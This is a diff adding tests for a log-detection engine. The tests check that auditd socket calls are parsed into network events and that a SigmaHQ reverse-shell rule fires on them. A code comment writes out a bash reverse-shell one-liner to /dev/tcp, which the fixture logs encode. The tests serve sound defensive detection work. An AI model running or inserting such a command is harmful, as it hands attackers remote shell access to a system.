@@ -94,6 +94,43 @@ describe('auditd records of one event are joined before matching', () => {
   });
 });
 
+describe('auditd socket calls become network events', () => {
+  // bash -i >& /dev/tcp/203.0.113.9/4545 0>&1: connect(2) from /usr/bin/bash, peer in SOCKADDR.
+  const msg = 'msg=audit(1700000001.456:5001):';
+  const connect = [
+    `type=SYSCALL ${msg} arch=c000003e syscall=42 success=yes exit=0 a0=3 a1=55a1c7e0b2c0 a2=10 a3=0 items=0 ppid=2210 pid=3001 auid=1000 uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts0 ses=3 comm="bash" exe="/usr/bin/bash" key="network"`,
+    `type=SOCKADDR ${msg} saddr=020011C1CB0071090000000000000000`,
+    `type=PROCTITLE ${msg} proctitle=${hex('bash -i')}`,
+    `type=EOE ${msg}`,
+  ];
+
+  it('the SigmaHQ rule "Linux Reverse Shell Indicator" (Image + DestinationIp) fires on a real connect()', async () => {
+    const file = path.join(datasets, 'sigmahq/rules/linux/network_connection/net_connection_lnx_back_connect_shell_dev.yml');
+    const { rules, refusals } = await loadRules([file], { builtin: false });
+    expect(refusals).toEqual([]);
+    const e = new DetectionEngine({ rules });
+    const res = e.scanText(connect.join('\n'), true);
+    expect([...res.hits]).toEqual([1, 0]);
+    expect(res.fields![1]).toMatchObject({ 'destination.ip': '203.0.113.9', 'destination.port': 4545, 'process.executable': '/usr/bin/bash', 'process.pid': 3001 });
+    // The same call to localhost is filtered out by the rule.
+    const local = connect.map((l) => l.replace('CB007109', '7F000001'));
+    expect(e.scanText(local.join('\n')).hits.length).toBe(0);
+  });
+
+  it('IPv6 peers, bind() as the local end, and calls on other architectures left alone', () => {
+    const v6 = `type=SOCKADDR ${msg} saddr=0A0001BB0000000020010DB800000000000000000000000100000000`;
+    expect(Object.fromEntries(planAuditJoin([connect[0], v6]).get(1)!)).toMatchObject({ 'destination.ip': '2001:db8::1', 'destination.port': 443 });
+    const bind = connect[0]!.replace('syscall=42', 'syscall=49');
+    expect(Object.fromEntries(planAuditJoin([bind, connect[1]]).get(1)!)).toMatchObject({ 'source.ip': '203.0.113.9', 'source.port': 4545 });
+    // aarch64 numbers its calls differently: without a name (ENRICHED SYSCALL=) the side is unknown.
+    expect(planAuditJoin([connect[0]!.replace('arch=c000003e', 'arch=c00000b7'), connect[1]]).has(1)).toBe(false);
+    expect(Object.fromEntries(planAuditJoin([connect[0]!.replace('arch=c000003e', 'arch=c00000b7') + ' \u001dARCH=aarch64 SYSCALL=connect UID="alice"', connect[1]]).get(1)!)).toMatchObject({
+      'destination.ip': '203.0.113.9',
+      'user.name': 'alice',
+    });
+  });
+});
+
 describe('sudo lines carry the field SigmaHQ sudo rules read (USER, mapped to user.target.name)', () => {
   it('the SigmaHQ CVE-2019-14287 rule reads USER: "#-1" fires, a real user does not', async () => {
     const file = path.join(datasets, 'sigmahq/rules-emerging-threats/2019/Exploits/CVE-2019-14287/lnx_sudo_exploit_cve_2019_14287.yml');
